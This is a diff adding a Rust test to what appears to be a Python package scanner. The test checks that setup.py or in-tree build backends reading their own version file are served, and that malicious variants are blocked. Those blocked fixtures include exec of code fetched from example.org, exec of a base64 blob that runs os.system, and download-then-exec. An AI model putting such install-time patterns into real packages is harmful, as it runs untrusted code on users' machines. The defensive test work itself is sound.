@@ -1999,3 +1999,89 @@ fn pickles_in_members_report_what_a_load_would_call_with_severity_by_place() {
         }
     }
 }
+
+/// Where a version-reading case lives: the sdist's setup.py, or a PEP 517 in-tree backend
+/// (`backend-path`) that the pyproject.toml points at.
+#[derive(Clone, Copy, Debug)]
+enum BuildFile {
+    SetupPy,
+    InTreeBackend,
+}
+
+/// Issue 10's version-idiom class, through every detector and the shipped policy: a setup.py
+/// (or an in-tree build backend) reading its own version or about file, in any spelling, is
+/// served; the same shapes around a fetch, a decoded blob, a file outside the source tree or a
+/// file the same module wrote first are blocked.
+#[test]
+fn reading_the_packages_own_version_file_is_served_in_any_spelling_and_its_malicious_variants_block() {
+    use crate::model::Decision::{Block, Serve};
+    use BuildFile::{InTreeBackend, SetupPy};
+    const HEAD: &str = "import os, io, re, ast, codecs, runpy, pathlib, importlib.util\nfrom pathlib import Path\nfrom setuptools import setup\n";
+    const VERSION_PY: &[u8] = b"__version__ = '1.0'\n__author__ = 'A. Maintainer'\n";
+    const PYPROJECT_BACKEND: &[u8] =
+        b"[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build_backend\"]\n";
+    let cases: &[(&str, BuildFile, &str, crate::model::Decision)] = &[
+        ("exec of open(os.path.join(here, ...)).read()", SetupPy, "here = os.path.abspath(os.path.dirname(__file__))\nexec(open(os.path.join(here, 'demo', 'version.py')).read())\nsetup(name='demo', version=__version__)\n", Serve),
+        ("pathlib Path(__file__).parent read_text", SetupPy, "ns = {}\nexec((Path(__file__).parent / 'demo' / 'version.py').read_text(), ns)\nsetup(name='demo', version=ns['__version__'])\n", Serve),
+        ("pathlib.Path(...).read_text() of a relative path", SetupPy, "about = {}\nexec(pathlib.Path('demo/version.py').read_text(encoding='utf-8'), about)\nsetup(name='demo', version=about['__version__'])\n", Serve),
+        ("codecs.open", SetupPy, "HERE = os.path.dirname(os.path.abspath(__file__))\nabout = {}\nwith codecs.open(os.path.join(HERE, 'demo', 'version.py'), 'r', 'utf-8') as f:\n    exec(f.read(), about)\nsetup(name='demo', version=about['__version__'])\n", Serve),
+        ("io.open", SetupPy, "about = {}\nexec(io.open(os.path.join(os.path.dirname(__file__), 'demo', 'version.py'), encoding='utf-8').read(), about)\nsetup(name='demo', version=about['__version__'])\n", Serve),
+        ("with open(...) as f: exec(f.read(), ns)", SetupPy, "ns = {}\nwith open('demo/version.py') as f:\n    exec(f.read(), ns)\nsetup(name='demo', version=ns['__version__'])\n", Serve),
+        ("exec(compile(open(p).read(), p, 'exec'), ns)", SetupPy, "p = os.path.join('demo', 'version.py')\nns = {}\nexec(compile(open(p).read(), p, 'exec'), ns)\nsetup(name='demo', version=ns['__version__'])\n", Serve),
+        ("runpy.run_path", SetupPy, "ns = runpy.run_path(os.path.join(os.path.dirname(__file__), 'demo', 'version.py'))\nsetup(name='demo', version=ns['__version__'])\n", Serve),
+        ("eval of line.split('=')[1]", SetupPy, "for line in open('demo/version.py'):\n    if line.startswith('__version__'):\n        version = eval(line.split('=')[1])\nsetup(name='demo', version=version)\n", Serve),
+        ("eval of a regex group", SetupPy, "text = open('demo/version.py').read()\nversion = eval(re.search(r'__version__ = (.*)', text).group(1))\nsetup(name='demo', version=version)\n", Serve),
+        ("ast.literal_eval of a parsed line", SetupPy, "with open('demo/version.py') as f:\n    for line in f:\n        if line.startswith('__version__'):\n            version = ast.literal_eval(line.split('=')[1].strip())\nsetup(name='demo', version=version)\n", Serve),
+        ("importlib spec_from_file_location + exec_module", SetupPy, "spec = importlib.util.spec_from_file_location('version', os.path.join(os.path.dirname(__file__), 'demo', 'version.py'))\nmod = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(mod)\nsetup(name='demo', version=mod.__version__)\n", Serve),
+        ("open(...).read() assigned to a variable first", SetupPy, "src = open(os.path.join('demo', 'version.py')).read()\nns = {}\nexec(src, ns)\nsetup(name='demo', version=ns['__version__'])\n", Serve),
+        ("ROOT from os.path.dirname(os.path.abspath(__file__))", SetupPy, "ROOT = os.path.dirname(os.path.abspath(__file__))\nabout = {}\nexec(open(os.path.join(ROOT, 'demo', 'version.py')).read(), about)\nsetup(name='demo', version=about['__version__'])\n", Serve),
+        ("cwd = os.getcwd()", SetupPy, "cwd = os.getcwd()\nabout = {}\nexec(open(os.path.join(cwd, 'demo', 'version.py')).read(), about)\nsetup(name='demo', version=about['__version__'])\n", Serve),
+        ("Path(__file__).parent held in HERE", SetupPy, "HERE = Path(__file__).parent\nabout = {}\nexec((HERE / 'demo' / 'version.py').read_text(), about)\nsetup(name='demo', version=about['__version__'])\n", Serve),
+        ("exec into globals()", SetupPy, "exec(open('demo/version.py').read(), globals())\nsetup(name='demo', version=__version__)\n", Serve),
+        ("exec into locals()", SetupPy, "def get_version():\n    exec(open('demo/version.py').read(), globals(), locals())\n    return locals()['__version__']\nsetup(name='demo', version=get_version())\n", Serve),
+        ("exec into a dict literal", SetupPy, "about = {'__file__': 'demo/version.py'}\nexec(open('demo/version.py').read(), {'__name__': 'version'}, about)\nsetup(name='demo', version=about['__version__'])\n", Serve),
+        ("exec into about = {}", SetupPy, "about = {}\nexec(open('demo/version.py').read(), about)\nsetup(name='demo', version=about['__version__'])\n", Serve),
+        ("python 2 execfile", SetupPy, "ns = {}\nexecfile(os.path.join('demo', 'version.py'), ns)\nsetup(name='demo', version=ns['__version__'])\n", Serve),
+        ("an in-tree PEP 517 backend reading the version file", InTreeBackend, "from setuptools import build_meta as _orig\nfrom setuptools.build_meta import *\nns = {}\nexec(open(os.path.join(os.path.dirname(os.path.dirname(__file__)), 'demo', 'version.py')).read(), ns)\n", Serve),
+        ("an in-tree backend with pathlib and runpy", InTreeBackend, "from setuptools.build_meta import *\nVERSION = runpy.run_path(str(Path(__file__).resolve().parent.parent / 'demo' / 'version.py'))['__version__']\n", Serve),
+        // Malicious variants: the same spellings around something that is not the package's own file.
+        ("exec of a file fetched from the network", SetupPy, "import urllib.request\nexec(urllib.request.urlopen('https://example.org/version.py').read())\nsetup(name='demo', version='1.0')\n", Block),
+        ("exec of a decoded blob", SetupPy, "import base64\nns = {}\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='), ns)\nsetup(name='demo', version='1.0')\n", Block),
+        ("exec of a file outside the source tree", SetupPy, "about = {}\nexec(open(os.path.expanduser('~/.config/demo/version.py')).read(), about)\nsetup(name='demo', version='1.0')\n", Block),
+        ("exec of a file in the temp dir through here", SetupPy, "import tempfile\nhere = tempfile.gettempdir()\nexec(open(os.path.join(here, 'demo', 'version.py')).read())\nsetup(name='demo', version='1.0')\n", Block),
+        ("runpy of an absolute path", SetupPy, "ns = runpy.run_path('/tmp/.demo/version.py')\nsetup(name='demo', version='1.0')\n", Block),
+        ("spec_from_file_location of a file in home", SetupPy, "spec = importlib.util.spec_from_file_location('v', os.path.expanduser('~/.demo/v.py'))\nmod = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(mod)\nsetup(name='demo', version='1.0')\n", Block),
+        ("exec of a file this setup.py wrote from a decoded blob", SetupPy, "import base64\nwith open('demo/version.py', 'w') as f:\n    f.write(base64.b64decode('aW1wb3J0IG9z').decode())\nexec(open('demo/version.py').read())\nsetup(name='demo', version='1.0')\n", Block),
+        ("exec of a file this setup.py downloaded first", SetupPy, "import urllib.request\nurllib.request.urlretrieve('https://example.org/v.py', 'demo/_v.py')\nexec(open('demo/_v.py').read())\nsetup(name='demo', version='1.0')\n", Block),
+        ("an in-tree backend exec of a fetched file", InTreeBackend, "import urllib.request\nfrom setuptools.build_meta import *\nexec(urllib.request.urlopen('https://example.org/hook.py').read(), globals())\n", Block),
+    ];
+    let scanner = Scanner::new(Limits::default()).with_threads(1);
+    let mut wrong = Vec::new();
+    for (case, place, body, want) in cases {
+        let code = format!("{HEAD}{body}");
+        let mut members = vec![
+            T::File(b"demo-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nSummary: A demo.\nAuthor-email: a@example.org\nLicense: MIT\n"),
+            T::File(b"demo-1.0/demo/__init__.py", b"from .version import __version__\n"),
+            T::File(b"demo-1.0/demo/version.py", VERSION_PY),
+        ];
+        match place {
+            SetupPy => members.push(T::File(b"demo-1.0/setup.py", code.as_bytes())),
+            InTreeBackend => {
+                members.push(T::File(b"demo-1.0/pyproject.toml", PYPROJECT_BACKEND));
+                members.push(T::File(b"demo-1.0/_build_backend/backend.py", code.as_bytes()));
+            }
+        }
+        let r = scan_bytes(&scanner, "demo-1.0.tar.gz", &tar_gz(&members));
+        assert!(r.complete(), "{case}: {:?}", r.incomplete_reason());
+        // Served: the client gets the file (an in-tree backend is annotated as one, whatever it reads).
+        let got = match verdict_for(&r).decision {
+            crate::model::Decision::Annotate => Serve,
+            d => d,
+        };
+        if got != *want {
+            let found: Vec<_> = r.findings.iter().map(|f| (&f.detector, f.severity)).collect();
+            wrong.push(format!("{case} ({place:?}): wanted {want:?}, got {got:?}: {found:?}"));
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
